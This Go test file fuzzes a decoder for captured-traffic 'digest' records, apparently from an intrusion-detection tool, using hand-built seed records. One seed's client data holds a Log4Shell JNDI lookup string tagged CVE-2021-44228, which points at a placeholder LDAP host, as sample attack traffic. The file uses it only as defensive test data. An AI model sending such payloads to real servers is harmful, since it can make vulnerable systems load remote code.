package registry

import (
	"net/netip"
	"reflect"
	"testing"
	"time"

	"repro/internal/fuzzcorpus"
	"repro/internal/packet"
)

func fuzzDigestSeeds() [][]byte {
	full := appendDigest(nil, &Digest{
		Start:         time.Date(2021, 12, 10, 12, 0, 0, 5, time.UTC),
		Client:        packet.Endpoint{Addr: netip.MustParseAddr("203.0.113.9"), Port: 40001},
		Server:        packet.Endpoint{Addr: netip.MustParseAddr("2001:db8::1"), Port: 443},
		ClientData:    []byte("GET /${jndi:ldap://x/a} HTTP/1.1\r\n\r\n"),
		ServerData:    []byte("HTTP/1.1 404 Not Found\r\n\r\n"),
		Complete:      true,
		Ambiguous:     true,
		OrigSID:       58722,
		OrigCVE:       "2021-44228",
		OrigPublished: time.Date(2090, 1, 1, 0, 0, 0, 0, time.UTC),
	})
	// A digest whose client sample declares 4 GiB in a few bytes.
	lying := appendDigest(nil, &Digest{})
	copy(lying[18:22], []byte{0xff, 0xff, 0xff, 0xff})
	return [][]byte{
		full,
		appendDigest(nil, &Digest{}),
		full[:len(full)-1],
		append(append([]byte(nil), full...), 0),
		lying,
		{},
	}
}

// TestRegenFuzzCorpus rewrites the FuzzDigest seed corpus from the same
// seed list the fuzz target f.Adds. Run with REGEN_FUZZ_CORPUS=1 after
// changing the seeds.
func TestRegenFuzzCorpus(t *testing.T) {
	if !fuzzcorpus.Regen() {
		t.Skip("set REGEN_FUZZ_CORPUS=1 to rewrite testdata/fuzz")
	}
	fuzzcorpus.Write(t, "FuzzDigest", fuzzDigestSeeds())
}

// FuzzDigest feeds arbitrary bytes to the digest decoder, which a rescan
// runs over every record of digests.log. Decoding must never panic or
// allocate more than a fixed multiple of the record, and an accepted digest
// must re-encode to a record that decodes to an equal digest.
func FuzzDigest(f *testing.F) {
	for _, seed := range fuzzDigestSeeds() {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		var dg Digest
		var err error
		alloc := fuzzcorpus.AllocatedBytes(func() { dg, err = decodeDigest(data) })
		if limit := 4*uint64(len(data)) + 64<<10; alloc > limit {
			t.Fatalf("decoding %d bytes allocated %d, limit %d", len(data), alloc, limit)
		}
		if err != nil {
			return
		}
		back, err := decodeDigest(appendDigest(nil, &dg))
		if err != nil || !reflect.DeepEqual(back, dg) {
			t.Fatalf("re-encode: %+v, %v; want %+v", back, err, dg)
		}
	})
}
